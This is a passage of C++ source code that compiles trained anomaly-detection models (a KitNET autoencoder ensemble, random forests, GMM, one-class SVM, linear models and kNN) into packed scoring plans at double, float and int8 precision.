    arena[u.inv + c] = range > 1e-12 ? 1.0 / range : 0.0;
  }
  u.enc_wt = arena_alloc(arena, u.in * u.hp);
  pack_panel(p.w1, u.hidden, u.in, u.hp, arena.data() + u.enc_wt);
  u.enc_b = arena_alloc(arena, u.hp);
  std::copy(p.b1, p.b1 + u.hidden, arena.begin() + u.enc_b);
  u.dec_wt = arena_alloc(arena, u.hidden * u.dp);
  pack_panel(p.w2, u.in, u.hidden, u.dp, arena.data() + u.dec_wt);
  u.dec_b = arena_alloc(arena, u.dp);
  std::copy(p.b2, p.b2 + u.in, arena.begin() + u.dec_b);
  return u;
}

/// Compile one AutoEncoderCore into the f32 arena (panels padded to the
/// 8-lane width).
AeUnit lower_ae_f32(const AutoEncoderCore& ae, const size_t* cluster,
                    size_t cluster_size, std::vector<float>& arena,
                    std::vector<uint32_t>& gather) {
  const AutoEncoderCore::ParamsView p = ae.params_view();
  AeUnit u;
  u.in = p.dim;
  u.hidden = p.hidden;
  u.hp = pad_to(p.hidden, kPackPadF32);
  u.dp = pad_to(p.dim, kPackPadF32);
  if (cluster != nullptr) {
    u.gather = gather.size();
    for (size_t j = 0; j < cluster_size; ++j) {
      gather.push_back(static_cast<uint32_t>(cluster[j]));
    }
  }
  u.nmin = arena_alloc(arena, u.in);
  for (size_t c = 0; c < u.in; ++c) {
    arena[u.nmin + c] = static_cast<float>(p.norm_min[c]);
  }
  u.inv = arena_alloc(arena, u.in);
  for (size_t c = 0; c < u.in; ++c) {
    const double range = p.norm_max[c] - p.norm_min[c];
    arena[u.inv + c] = range > 1e-12 ? static_cast<float>(1.0 / range) : 0.0f;
  }
  u.enc_wt = arena_alloc(arena, u.in * u.hp);
  pack_panel(p.w1, u.hidden, u.in, u.hp, arena.data() + u.enc_wt);
  u.enc_b = arena_alloc(arena, u.hp);
  for (size_t o = 0; o < u.hidden; ++o) {
    arena[u.enc_b + o] = static_cast<float>(p.b1[o]);
  }
  u.dec_wt = arena_alloc(arena, u.hidden * u.dp);
  pack_panel(p.w2, u.in, u.hidden, u.dp, arena.data() + u.dec_wt);
  u.dec_b = arena_alloc(arena, u.dp);
  for (size_t o = 0; o < u.in; ++o) {
    arena[u.dec_b + o] = static_cast<float>(p.b2[o]);
  }
  return u;
}

/// Compile one AutoEncoderCore for int8: f32 normalization/bias/dequant in
/// `farena`, quantized weight panels (k x out, transposed) in `qarena`.
AeUnit lower_ae_i8(const AutoEncoderCore& ae, const size_t* cluster,
                   size_t cluster_size, std::vector<float>& farena,
                   std::vector<int8_t>& qarena,
                   std::vector<uint32_t>& gather) {
  const AutoEncoderCore::ParamsView p = ae.params_view();
  AeUnit u;
  u.in = p.dim;
  u.hidden = p.hidden;
  u.hp = p.hidden;  // the scalar i8 apply needs no padding
  u.dp = p.dim;
  if (cluster != nullptr) {
    u.gather = gather.size();
    for (size_t j = 0; j < cluster_size; ++j) {
      gather.push_back(static_cast<uint32_t>(cluster[j]));
    }
  }
  u.nmin = arena_alloc(farena, u.in);
  for (size_t c = 0; c < u.in; ++c) {
    farena[u.nmin + c] = static_cast<float>(p.norm_min[c]);
  }
  u.inv = arena_alloc(farena, u.in);
  for (size_t c = 0; c < u.in; ++c) {
    const double range = p.norm_max[c] - p.norm_min[c];
    farena[u.inv + c] = range > 1e-12 ? static_cast<float>(1.0 / range) : 0.0f;
  }
  u.enc_b = arena_alloc(farena, u.hidden);
  for (size_t o = 0; o < u.hidden; ++o) {
    farena[u.enc_b + o] = static_cast<float>(p.b1[o]);
  }
  u.dec_b = arena_alloc(farena, u.in);
  for (size_t o = 0; o < u.in; ++o) {
    farena[u.dec_b + o] = static_cast<float>(p.b2[o]);
  }
  u.enc_f = arena_alloc(farena, u.hidden);
  u.enc_wq = arena_alloc(qarena, u.in * u.hidden);
  quantize_panel(p.w1, u.hidden, u.in, qarena.data() + u.enc_wq,
                 farena.data() + u.enc_f);
  u.dec_f = arena_alloc(farena, u.in);
  u.dec_wq = arena_alloc(qarena, u.hidden * u.in);
  quantize_panel(p.w2, u.in, u.hidden, qarena.data() + u.dec_wq,
                 farena.data() + u.dec_f);
  return u;
}

/// y[m x out] = dequant(xq[m x k] (stride ldx) * wq[k x out]) + bias:
/// int32 accumulation, per-output-channel dequant factor. Row i depends
/// only on row i of xq (sequential-k order), like the float kernels.
void i8_apply(size_t m, size_t out, size_t k, const uint8_t* xq, size_t ldx,
              const int8_t* wq, const float* factor, const float* bias,
              int32_t* acc, float* y, size_t ldy) {
  for (size_t i = 0; i < m; ++i) {
    const uint8_t* xi = xq + i * ldx;
    float* yi = y + i * ldy;
    std::fill(acc, acc + out, 0);
    for (size_t l = 0; l < k; ++l) {
      const int32_t xl = xi[l];
      if (xl == 0) continue;
      const int8_t* wrow = wq + l * out;
      for (size_t o = 0; o < out; ++o) acc[o] += xl * wrow[o];
    }
    for (size_t o = 0; o < out; ++o) {
      yi[o] = bias[o] + factor[o] * static_cast<float>(acc[o]);
    }
  }
}

void quantize_unit_f32(size_t n, const float* x, uint8_t* q) {
  // x is in [0,1] by construction (clamped normalization / sigmoid), so the
  // activation scale is a fixed 127.
  for (size_t i = 0; i < n; ++i) {
    q[i] = static_cast<uint8_t>(std::lrintf(x[i] * 127.0f));
  }
}

// The fused f64 KitNET/AE plan: the reference score_rows arithmetic, with
// the gather, the normalization constants, and every panel resident in one
// arena and the per-call reciprocal-range computation hoisted to compile
// time.
class KitnetPlanF64 final : public Plan {
 public:
  KitnetPlanF64(const KitNet* net, const AutoEncoderCore& single,
                double threshold) {
    threshold_ = threshold;
    if (net != nullptr) {
      const auto& clusters = net->clusters();
      size_t dim = 0;
      for (const auto& cl : clusters) {
        for (size_t c : cl) dim = std::max(dim, c + 1);
      }
      dim_ = dim;
      for (size_t k = 0; k < clusters.size(); ++k) {
        aes_.push_back(lower_ae_f64(*net->ensemble_core(k),
                                    clusters[k].data(), clusters[k].size(),
                                    arena_, gather_));
      }
      output_ = lower_ae_f64(*net->output_core(), nullptr, 0, arena_, gather_);
    } else {
      dim_ = single.dim();
      output_ = lower_ae_f64(single, nullptr, 0, arena_, gather_);
    }
    weight_bytes_ = arena_.size() * sizeof(double) +
                    gather_.size() * sizeof(uint32_t);
  }

  const char* kind() const override { return aes_.empty() ? "autoencoder" : "kitnet"; }

  void score_rows(const double* x, size_t m, size_t ldx, double* out,
                  Scratch& s) const override {
    if (aes_.empty()) {
      run_ae(output_, x, m, ldx, out, 1, s);
      return;
    }
    const size_t n_cl = aes_.size();
    s.d.resize(m * n_cl);
    for (size_t k = 0; k < n_cl; ++k) {
      run_ae(aes_[k], x, m, ldx, s.d.data() + k, n_cl, s);
    }
    run_ae(output_, s.d.data(), m, n_cl, out, 1, s);
  }

 private:
  /// Score the unit over the m x * source block; write the per-row RMSE to
  /// out[i * out_stride]. Bit-identical to AutoEncoderCore::score_rows on
  /// the gathered sub-block.
  void run_ae(const AeUnit& u, const double* src, size_t m, size_t lds,
              double* out, size_t out_stride, Scratch& s) const {
    const double* ar = arena_.data();
    const double* nmin = ar + u.nmin;
    const double* inv = ar + u.inv;
    s.a.resize(m * u.in);
    for (size_t i = 0; i < m; ++i) {
      const double* xi = src + i * lds;
      double* zi = s.a.data() + i * u.in;
      if (u.gather != kNoGather) {
        const uint32_t* g = gather_.data() + u.gather;
        for (size_t j = 0; j < u.in; ++j) {
          zi[j] = std::clamp((xi[g[j]] - nmin[j]) * inv[j], 0.0, 1.0);
        }
      } else {
        for (size_t j = 0; j < u.in; ++j) {
          zi[j] = std::clamp((xi[j] - nmin[j]) * inv[j], 0.0, 1.0);
        }
      }
    }
    s.b.resize(m * u.hp);
    dense::packed_apply(m, u.hp, u.in, s.a.data(), u.in, ar + u.enc_wt,
                        ar + u.enc_b, s.b.data(), u.hp);
    for (size_t i = 0; i < m; ++i) {
      dense::sigmoid_sweep(u.hidden, s.b.data() + i * u.hp);
    }
    s.c.resize(m * u.dp);
    dense::packed_apply(m, u.dp, u.hidden, s.b.data(), u.hp, ar + u.dec_wt,
                        ar + u.dec_b, s.c.data(), u.dp);
    for (size_t i = 0; i < m; ++i) {
      double* yi = s.c.data() + i * u.dp;
      dense::sigmoid_sweep(u.in, yi);
      const double* zi = s.a.data() + i * u.in;
      double mse = 0.0;
      for (size_t c = 0; c < u.in; ++c) {
        const double e = yi[c] - zi[c];
        mse += e * e;
      }
      out[i * out_stride] = std::sqrt(mse / static_cast<double>(u.in));
    }
  }

  std::vector<double> arena_;
  std::vector<uint32_t> gather_;
  std::vector<AeUnit> aes_;  // empty for a single-AE plan
  AeUnit output_;
};

// The f32 KitNET/AE plan: identical structure in float, 8-lane panels.
class KitnetPlanF32 final : public Plan {
 public:
  KitnetPlanF32(const KitNet* net, const AutoEncoderCore& single,
                double threshold) {
    precision_ = Precision::kF32;
    threshold_ = threshold;
    if (net != nullptr) {
      const auto& clusters = net->clusters();
      size_t dim = 0;
      for (const auto& cl : clusters) {
        for (size_t c : cl) dim = std::max(dim, c + 1);
      }
      dim_ = dim;
      for (size_t k = 0; k < clusters.size(); ++k) {
        aes_.push_back(lower_ae_f32(*net->ensemble_core(k),
                                    clusters[k].data(), clusters[k].size(),
                                    arena_, gather_));
      }
      output_ = lower_ae_f32(*net->output_core(), nullptr, 0, arena_, gather_);
    } else {
      dim_ = single.dim();
      output_ = lower_ae_f32(single, nullptr, 0, arena_, gather_);
    }
    weight_bytes_ =
        arena_.size() * sizeof(float) + gather_.size() * sizeof(uint32_t);
  }

  const char* kind() const override {
    return aes_.empty() ? "autoencoder" : "kitnet";
  }

  void score_rows(const double* x, size_t m, size_t ldx, double* out,
                  Scratch& s) const override {
    const KernelsF32& kf = active_kernels_f32();
    // One f64->f32 conversion of the source rows, shared by every cluster.
    s.fx.resize(m * dim_);
    for (size_t i = 0; i < m; ++i) {
      const double* xi = x + i * ldx;
      float* fi = s.fx.data() + i * dim_;
      for (size_t c = 0; c < dim_; ++c) fi[c] = static_cast<float>(xi[c]);
    }
    if (aes_.empty()) {
      run_ae(kf, output_, s.fx.data(), m, dim_, nullptr, 0, out, s);
      return;
    }
    const size_t n_cl = aes_.size();
    s.fd.resize(m * n_cl);
    for (size_t k = 0; k < n_cl; ++k) {
      run_ae(kf, aes_[k], s.fx.data(), m, dim_, s.fd.data() + k, n_cl,
             nullptr, s);
    }
    run_ae(kf, output_, s.fd.data(), m, n_cl, nullptr, 0, out, s);
  }

 private:
  /// fout (stride fstride) receives f32 RMSEs for ensemble units; out
  /// receives f64 scores for the output unit (exactly one is non-null).
  void run_ae(const KernelsF32& kf, const AeUnit& u, const float* src,
              size_t m, size_t lds, float* fout, size_t fstride, double* out,
              Scratch& s) const {
    const float* ar = arena_.data();
    const float* nmin = ar + u.nmin;
    const float* inv = ar + u.inv;
    s.fa.resize(m * u.in);
    for (size_t i = 0; i < m; ++i) {
      const float* xi = src + i * lds;
      float* zi = s.fa.data() + i * u.in;
      if (u.gather != kNoGather) {
        const uint32_t* g = gather_.data() + u.gather;
        for (size_t j = 0; j < u.in; ++j) {
          zi[j] = std::clamp((xi[g[j]] - nmin[j]) * inv[j], 0.0f, 1.0f);
        }
      } else {
        for (size_t j = 0; j < u.in; ++j) {
          zi[j] = std::clamp((xi[j] - nmin[j]) * inv[j], 0.0f, 1.0f);
        }
      }
    }
    // Sigmoid runs over the whole m x padded block in one sweep: rows are
    // contiguous at stride hp/dp, both multiples of the 8-lane pack width,
    // so every row lands on full SIMD chunks regardless of m (batch-size
    // invariance holds) and the padded lanes — never read downstream — cost
    // one wasted lane instead of a per-row kernel dispatch. f64 plans keep
    // the per-row sweep: their contract is bit-identity with the reference
    // path, whose chunk boundaries are per-row.
    s.fb.resize(m * u.hp);
    kf.packed_apply(m, u.hp, u.in, s.fa.data(), u.in, ar + u.enc_wt,
                    ar + u.enc_b, s.fb.data(), u.hp);
    kf.sigmoid_sweep(m * u.hp, s.fb.data());
    s.fc.resize(m * u.dp);
    kf.packed_apply(m, u.dp, u.hidden, s.fb.data(), u.hp, ar + u.dec_wt,
                    ar + u.dec_b, s.fc.data(), u.dp);
    kf.sigmoid_sweep(m * u.dp, s.fc.data());
    for (size_t i = 0; i < m; ++i) {
      float* yi = s.fc.data() + i * u.dp;
      const float* zi = s.fa.data() + i * u.in;
      float mse = 0.0f;
      for (size_t c = 0; c < u.in; ++c) {
        const float e = yi[c] - zi[c];
        mse += e * e;
      }
      const float rmse = std::sqrt(mse / static_cast<float>(u.in));
      if (fout != nullptr) {
        fout[i * fstride] = rmse;
      } else {
        out[i] = static_cast<double>(rmse);
      }
    }
  }

  std::vector<float> arena_;
  std::vector<uint32_t> gather_;
  std::vector<AeUnit> aes_;
  AeUnit output_;
};

// The int8 KitNET/AE plan: weights quantized per output channel at compile
// time; activations are in [0,1] by construction so they quantize to 0..127
// with a fixed scale. Accumulation is int32; dequant, bias, and sigmoid run
// in f32; the RMSE compares against the *unquantized* f32 input.
class KitnetPlanI8 final : public Plan {
 public:
  KitnetPlanI8(const KitNet* net, const AutoEncoderCore& single,
               double threshold) {
    precision_ = Precision::kI8;
    threshold_ = threshold;
    if (net != nullptr) {
      const auto& clusters = net->clusters();
      size_t dim = 0;
      for (const auto& cl : clusters) {
        for (size_t c : cl) dim = std::max(dim, c + 1);
      }
      dim_ = dim;
      for (size_t k = 0; k < clusters.size(); ++k) {
        aes_.push_back(lower_ae_i8(*net->ensemble_core(k), clusters[k].data(),
                                   clusters[k].size(), farena_, qarena_,
                                   gather_));
      }
      output_ =
          lower_ae_i8(*net->output_core(), nullptr, 0, farena_, qarena_, gather_);
    } else {
      dim_ = single.dim();
      output_ = lower_ae_i8(single, nullptr, 0, farena_, qarena_, gather_);
    }
    weight_bytes_ = farena_.size() * sizeof(float) + qarena_.size() +
                    gather_.size() * sizeof(uint32_t);
  }

  const char* kind() const override {
    return aes_.empty() ? "autoencoder" : "kitnet";
  }

  void score_rows(const double* x, size_t m, size_t ldx, double* out,
                  Scratch& s) const override {
    s.fx.resize(m * dim_);
    for (size_t i = 0; i < m; ++i) {
      const double* xi = x + i * ldx;
      float* fi = s.fx.data() + i * dim_;
      for (size_t c = 0; c < dim_; ++c) fi[c] = static_cast<float>(xi[c]);
    }
    if (aes_.empty()) {
      run_ae(output_, s.fx.data(), m, dim_, nullptr, 0, out, s);
      return;
    }
    const size_t n_cl = aes_.size();
    s.fd.resize(m * n_cl);
    for (size_t k = 0; k < n_cl; ++k) {
      run_ae(aes_[k], s.fx.data(), m, dim_, s.fd.data() + k, n_cl, nullptr,
             s);
    }
    run_ae(output_, s.fd.data(), m, n_cl, nullptr, 0, out, s);
  }

 private:
  void run_ae(const AeUnit& u, const float* src, size_t m, size_t lds,
              float* fout, size_t fstride, double* out, Scratch& s) const {
    const float* fr = farena_.data();
    const float* nmin = fr + u.nmin;
    const float* inv = fr + u.inv;
    s.fa.resize(m * u.in);   // f32 normalized input (RMSE target)
    s.qa.resize(m * u.in);   // quantized input
    s.fb.resize(m * u.hidden);
    s.qb.resize(m * u.hidden);
    s.fc.resize(m * u.in);
    s.ia.resize(std::max(u.hidden, u.in));
    for (size_t i = 0; i < m; ++i) {
      const float* xi = src + i * lds;
      float* zi = s.fa.data() + i * u.in;
      if (u.gather != kNoGather) {
        const uint32_t* g = gather_.data() + u.gather;
        for (size_t j = 0; j < u.in; ++j) {
          zi[j] = std::clamp((xi[g[j]] - nmin[j]) * inv[j], 0.0f, 1.0f);
        }
      } else {
        for (size_t j = 0; j < u.in; ++j) {
          zi[j] = std::clamp((xi[j] - nmin[j]) * inv[j], 0.0f, 1.0f);
        }
      }
      quantize_unit_f32(u.in, zi, s.qa.data() + i * u.in);
    }
    i8_apply(m, u.hidden, u.in, s.qa.data(), u.in, qarena_.data() + u.enc_wq,
             fr + u.enc_f, fr + u.enc_b, s.ia.data(), s.fb.data(), u.hidden);
    sigmoid_sweep_f32_k(m * u.hidden, s.fb.data());
    for (size_t i = 0; i < m; ++i) {
      quantize_unit_f32(u.hidden, s.fb.data() + i * u.hidden,
                        s.qb.data() + i * u.hidden);
    }
    i8_apply(m, u.in, u.hidden, s.qb.data(), u.hidden,
             qarena_.data() + u.dec_wq, fr + u.dec_f, fr + u.dec_b,
             s.ia.data(), s.fc.data(), u.in);
    sigmoid_sweep_f32_k(m * u.in, s.fc.data());
    for (size_t i = 0; i < m; ++i) {
      const float* yi = s.fc.data() + i * u.in;
      const float* zi = s.fa.data() + i * u.in;
      float mse = 0.0f;
      for (size_t c = 0; c < u.in; ++c) {
        const float e = yi[c] - zi[c];
        mse += e * e;
      }
      const float rmse = std::sqrt(mse / static_cast<float>(u.in));
      if (fout != nullptr) {
        fout[i * fstride] = rmse;
      } else {
        out[i] = static_cast<double>(rmse);
      }
    }
  }

  std::vector<float> farena_;
  std::vector<int8_t> qarena_;
  std::vector<uint32_t> gather_;
  std::vector<AeUnit> aes_;
  AeUnit output_;
};

// ------------------------------------------------------------ Forest / Tree
//
// Flattened SoA node tables: feature / threshold / child-offset / leaf-value
// parallel arrays for every tree in one block. Leaves carry feature -1, so
// traversal descends until the loaded feature goes negative — it stops at
// the leaf's actual depth like the reference walk (a fixed max-depth bound
// pays the tree's worst case on every row) and takes the same
// `x[feat] <= thr` branches to the same leaf, bit-identical to predict_row.
class ForestPlan final : public Plan {
 public:
  ForestPlan(const std::vector<const DecisionTree*>& trees, bool single_tree,
             size_t dim) {
    single_tree_ = single_tree;
    dim_ = dim;
    threshold_ = 0.5;
    supervised_ = true;
    inv_ = trees.empty() ? 0.0 : 1.0 / static_cast<double>(trees.size());
    for (const DecisionTree* t : trees) {
      const int32_t base = static_cast<int32_t>(feat_.size());
      root_.push_back(base);
      const auto& nodes = t->nodes();
      if (nodes.empty()) {
        // An empty tree scores 0; represent it as a single zero leaf.
        feat_.push_back(-1);
        thr_.push_back(0.0);
        left_.push_back(base);
        right_.push_back(base);
        value_.push_back(0.0);
        continue;
      }
      for (const auto& nd : nodes) {
        if (nd.feature >= 0) {
          feat_.push_back(nd.feature);
          thr_.push_back(nd.threshold);
          left_.push_back(base + nd.left);
          right_.push_back(base + nd.right);
        } else {
          feat_.push_back(-1);
          thr_.push_back(0.0);
          left_.push_back(base);
          right_.push_back(base);
        }
        value_.push_back(nd.p_malicious);
      }
    }
    weight_bytes_ = feat_.size() * (sizeof(int32_t) * 3 + sizeof(double) * 2) +
                    root_.size() * sizeof(int32_t);
  }

  const char* kind() const override { return single_tree_ ? "tree" : "forest"; }

  void score_rows(const double* x, size_t m, size_t ldx, double* out,
                  Scratch&) const override {
    const int32_t* feat = feat_.data();
    const double* thr = thr_.data();
    const int32_t* left = left_.data();
    const int32_t* right = right_.data();
    const size_t n_trees = root_.size();
    for (size_t i = 0; i < m; ++i) {
      const double* xi = x + i * ldx;
      double acc = 0.0;
      for (size_t t = 0; t < n_trees; ++t) {
        int32_t id = root_[t];
        for (int32_t f = feat[id]; f >= 0; f = feat[id]) {
          id = xi[f] <= thr[id] ? left[id] : right[id];
        }
        acc += value_[static_cast<size_t>(id)];
      }
      out[i] = single_tree_ ? acc : acc * inv_;
    }
  }

 private:
  std::vector<int32_t> feat_, left_, right_, root_;
  std::vector<double> thr_, value_;
  double inv_ = 0.0;
  bool single_tree_ = false;
};

// ------------------------------------------------------------------- GMM
//
// The folded quadratic form copied into one arena; scoring replicates
// Gmm::score_block (two GEMMs + per-row logsumexp) in kScoreBlock chunks.
class GmmPlan final : public Plan {
 public:
  GmmPlan(const Gmm::FoldedView& v, double threshold) {
    dim_ = v.dim;
    k_ = v.k;
    threshold_ = threshold;
    w1_ = arena_alloc(arena_, v.k * v.dim);
    std::copy(v.w1, v.w1 + v.k * v.dim, arena_.begin() + w1_);
    w2_ = arena_alloc(arena_, v.k * v.dim);
    std::copy(v.w2, v.w2 + v.k * v.dim, arena_.begin() + w2_);
    cst_ = arena_alloc(arena_, v.k);
    std::copy(v.cst, v.cst + v.k, arena_.begin() + cst_);
    weight_bytes_ = arena_.size() * sizeof(double);
  }

  const char* kind() const override { return "gmm"; }

  void score_rows(const double* x, size_t m, size_t ldx, double* out,
                  Scratch& s) const override {
    for (size_t lo = 0; lo < m; lo += dense::kScoreBlock) {
      const size_t mb = std::min(dense::kScoreBlock, m - lo);
      block(x + lo * ldx, mb, ldx, out + lo, s);
    }
  }

 private:
  void block(const double* x, size_t m, size_t ldx, double* out,
             Scratch& s) const {
    s.a.resize(m * dim_);
    for (size_t i = 0; i < m; ++i) {
      const double* xi = x + i * ldx;
      double* qi = s.a.data() + i * dim_;
      for (size_t d = 0; d < dim_; ++d) qi[d] = xi[d] * xi[d];
    }
    s.b.resize(m * k_);
    dense::gemm_nt(m, k_, dim_, s.a.data(), dim_, arena_.data() + w1_, dim_,
                   arena_.data() + cst_, 0.0, s.b.data(), k_);
    dense::gemm_nt(m, k_, dim_, x, ldx, arena_.data() + w2_, dim_, nullptr,
                   1.0, s.b.data(), k_);
    for (size_t i = 0; i < m; ++i) {
      const double* li = s.b.data() + i * k_;
      double maxl = -std::numeric_limits<double>::max();
      for (size_t c = 0; c < k_; ++c) maxl = std::max(maxl, li[c]);
      double denom = 0.0;
      for (size_t c = 0; c < k_; ++c) denom += std::exp(li[c] - maxl);
      out[i] = -(maxl + std::log(denom));
    }
  }

  std::vector<double> arena_;
  size_t k_ = 0;
  size_t w1_ = 0, w2_ = 0, cst_ = 0;
};

// ------------------------------------------------------------------ OCSVM
//
// Compact support panel (vectors, alphas, norms) in one arena; scoring
// replicates OneClassSvm::score's blocked sq_dist_batch + exp + GEMV.
class OcsvmPlan final : public Plan {
 public:
  OcsvmPlan(const OneClassSvm::SupportView& v, double threshold) {
    dim_ = v.dim;
    n_sv_ = v.n_sv;
    gamma_ = v.gamma;
    rho_ = v.rho;
    threshold_ = threshold;
    svx_ = arena_alloc(arena_, v.n_sv * v.dim);
    std::copy(v.sv_x, v.sv_x + v.n_sv * v.dim, arena_.begin() + svx_);
    alpha_ = arena_alloc(arena_, v.n_sv);
    std::copy(v.sv_alpha, v.sv_alpha + v.n_sv, arena_.begin() + alpha_);
    norms_ = arena_alloc(arena_, v.n_sv);
    std::copy(v.sv_norms, v.sv_norms + v.n_sv, arena_.begin() + norms_);
    weight_bytes_ = arena_.size() * sizeof(double);
  }

  const char* kind() const override { return "ocsvm"; }

  void score_rows(const double* x, size_t m, size_t ldx, double* out,
                  Scratch& s) const override {
    for (size_t lo = 0; lo < m; lo += dense::kScoreBlock) {
      const size_t mb = std::min(dense::kScoreBlock, m - lo);
      block(x + lo * ldx, mb, ldx, out + lo, s);
    }
  }

 private:
  void block(const double* x, size_t m, size_t ldx, double* out,
             Scratch& s) const {
    s.a.resize(m * n_sv_);
    dense::sq_dist_batch(m, n_sv_, dim_, x, ldx, arena_.data() + svx_, dim_,
                         /*xn=*/nullptr, arena_.data() + norms_, s.a.data(),
                         n_sv_);
    double* kmat = s.a.data();
    for (size_t i = 0; i < m * n_sv_; ++i) kmat[i] *= -gamma_;
    dense::exp_sweep(m * n_sv_, kmat);
    dense::gemv(m, n_sv_, kmat, n_sv_, arena_.data() + alpha_, nullptr, out);
    for (size_t i = 0; i < m; ++i) out[i] = rho_ - out[i];
  }

  std::vector<double> arena_;
  size_t n_sv_ = 0;
  size_t svx_ = 0, alpha_ = 0, norms_ = 0;
  double gamma_ = 0.0, rho_ = 0.0;
};

// ------------------------------------------------------------- linear family
//
// The standardizer folded into an effective hyperplane at compile time
// (exactly the per-call fold the batched reference does), one GEMV at score
// time plus the family's margin squash.
class LinearPlan final : public Plan {
 public:
  enum class Squash { kNone, kSigmoid, kSigmoid2x };

  /// Standardized family (LinearSvm / LogisticRegression).
  LinearPlan(const LinearModel::WeightsView& v, Squash squash) {
    dim_ = v.dim;
    squash_ = squash;
    threshold_ = 0.5;
    supervised_ = true;
    w_ = arena_alloc(arena_, v.dim);
    for (size_t c = 0; c < v.dim; ++c) {
      arena_[w_ + c] = v.w[c] * v.inv_sd[c];
    }
    b_ = v.b - dense::dot(v.dim, arena_.data() + w_, v.mean);
    weight_bytes_ = arena_.size() * sizeof(double);
  }

  /// Linear one-class SVM: out = rho - w.x, no squash, no standardizer.
  LinearPlan(const LinearOneClassSvm::PlaneView& v, double threshold) {
    dim_ = v.dim;
    squash_ = Squash::kNone;
    negate_ = true;
    threshold_ = threshold;
    w_ = arena_alloc(arena_, v.dim);
    std::copy(v.w, v.w + v.dim, arena_.begin() + w_);
    b_ = v.rho;
    weight_bytes_ = arena_.size() * sizeof(double);
  }

  const char* kind() const override {
    return negate_ ? "linear_ocsvm" : "linear";
  }

  void score_rows(const double* x, size_t m, size_t ldx, double* out,
                  Scratch&) const override {
    dense::gemv(m, dim_, x, ldx, arena_.data() + w_, nullptr, out);
    if (negate_) {
      for (size_t i = 0; i < m; ++i) out[i] = b_ - out[i];
      return;
    }
    switch (squash_) {
      case Squash::kNone:
        for (size_t i = 0; i < m; ++i) out[i] += b_;
        break;
      case Squash::kSigmoid:
        for (size_t i = 0; i < m; ++i) {
          out[i] = 1.0 / (1.0 + std::exp(-(out[i] + b_)));
        }
        break;
      case Squash::kSigmoid2x:
        for (size_t i = 0; i < m; ++i) {
          out[i] = 1.0 / (1.0 + std::exp(-2.0 * (out[i] + b_)));
        }
        break;
    }
  }

 private:
  std::vector<double> arena_;
  size_t w_ = 0;
  double b_ = 0.0;
  Squash squash_ = Squash::kNone;
  bool negate_ = false;
};

// -------------------------------------------------------------------- kNN
//
// Compacted training matrix + labels + the fit-time squared row norms;
// scoring is the shared GEMM-expansion scan (the norms are copied from the
// model, so results are bit-identical to Knn::score).
class KnnPlan final : public Plan {
 public:
  KnnPlan(const FeatureTable& train, const std::vector<double>& sqnorm,
          size_t k) {
    dim_ = train.cols;
    n_train_ = train.rows;
    k_ = std::min(k, train.rows);
    threshold_ = 0.5;
    supervised_ = true;
    data_ = train.data;
    labels_ = train.labels;
    sqnorm_ = sqnorm;
    weight_bytes_ = (data_.size() + sqnorm_.size()) * sizeof(double) +
                    labels_.size() * sizeof(int);
  }

  const char* kind() const override { return "knn"; }

  void score_rows(const double* x, size_t m, size_t ldx, double* out,
                  Scratch& s) const override {
    knn_score_rows_batched(x, m, ldx, data_.data(), n_train_, dim_,
                           labels_.data(), sqnorm_.data(), k_, out, s.a,
                           s.nn);
  }

 private:
  std::vector<double> data_;
  std::vector<double> sqnorm_;  // ||t||^2 per training row
  std::vector<int> labels_;
  size_t n_train_ = 0, k_ = 0;
};

// ---------------------------------------------------------------- adapter

class PlanModel final : public Model {
 public:
  PlanModel(PlanPtr plan, std::string name)
      : plan_(std::move(plan)), name_(std::move(name)) {}

  void fit(const FeatureTable&) override {
    // Compiled plans are immutable artifacts; refit the source model and
    // recompile instead.
  }

  std::vector<double> score(const FeatureTable& X) const override {
    std::vector<double> out(X.rows, 0.0);
    // dim() is the minimum row width the plan reads (for tree plans it is
    // the highest feature any split references + 1, which can be narrower
    // than the training table); wider rows are fine — ldx carries X.cols.
    if (X.cols < plan_->dim()) return out;
    const size_t nblocks =
        (X.rows + dense::kScoreBlock - 1) / dense::kScoreBlock;
    parallel_for(
        0, nblocks,
        [&](size_t blk) {
          const size_t lo = blk * dense::kScoreBlock;
          const size_t hi = std::min(X.rows, lo + dense::kScoreBlock);
          thread_local Scratch scratch;
          plan_->score_rows(X.data.data() + lo * X.cols, hi - lo, X.cols,
                            out.data() + lo, scratch);
        },
        /*min_parallel=*/2);
    return out;
  }

  std::vector<int> predict(const FeatureTable& X) const override {
    return threshold_predict(score(X), plan_->threshold());
  }

  std::string name() const override { return name_; }
  bool is_supervised() const override { return plan_->supervised(); }

 private:
  PlanPtr plan_;
  std::string name_;
};

Error err(const std::string& what) { return Error::make("compile", what); }

}  // namespace

// ------------------------------------------------------------ entry points

Result<PlanPtr> compile_kitnet(const KitNet& net, const Options& opts) {
  if (net.output_core() == nullptr) return err("KitNet is not fitted");
  for (size_t k = 0; k < net.clusters().size(); ++k) {
    if (!net.ensemble_core(k)->sealed()) {
      return err("KitNet ensemble is not sealed (train, then fit())");
    }
  }
  if (!net.output_core()->sealed()) return err("KitNet output AE not sealed");
  switch (opts.precision) {
    case Precision::kF64:
      return PlanPtr(std::make_shared<KitnetPlanF64>(
          &net, *net.output_core(), net.threshold()));
    case Precision::kF32:
      return PlanPtr(std::make_shared<KitnetPlanF32>(
          &net, *net.output_core(), net.threshold()));
    case Precision::kI8:
      return PlanPtr(std::make_shared<KitnetPlanI8>(&net, *net.output_core(),
                                                    net.threshold()));
  }
  return err("unknown precision");
}

Result<PlanPtr> compile_autoencoder(const AutoEncoderCore& ae,
                                    double threshold, const Options& opts) {
  if (!ae.sealed()) return err("AutoEncoder core is not sealed");
  switch (opts.precision) {
    case Precision::kF64:
      return PlanPtr(std::make_shared<KitnetPlanF64>(nullptr, ae, threshold));
    case Precision::kF32:
      return PlanPtr(std::make_shared<KitnetPlanF32>(nullptr, ae, threshold));
    case Precision::kI8:
      return PlanPtr(std::make_shared<KitnetPlanI8>(nullptr, ae, threshold));
  }
  return err("unknown precision");
}

Result<PlanPtr> compile(const Model& model, const Options& opts) {
  if (const auto* kit = dynamic_cast<const KitNet*>(&model)) {
    return compile_kitnet(*kit, opts);
  }
  if (const auto* aed = dynamic_cast<const AutoEncoderDetector*>(&model)) {
    if (aed->core() == nullptr) return err("AutoEncoder is not fitted");
    return compile_autoencoder(*aed->core(), aed->threshold(), opts);
  }
  if (const auto* rf = dynamic_cast<const RandomForest*>(&model)) {
    if (rf->trees().empty()) return err("RandomForest is not fitted");
    std::vector<const DecisionTree*> trees;
    size_t dim = 1;
    for (const auto& t : rf->trees()) {
      trees.push_back(&t);
      for (const auto& nd : t.nodes()) {
        if (nd.feature >= 0) {
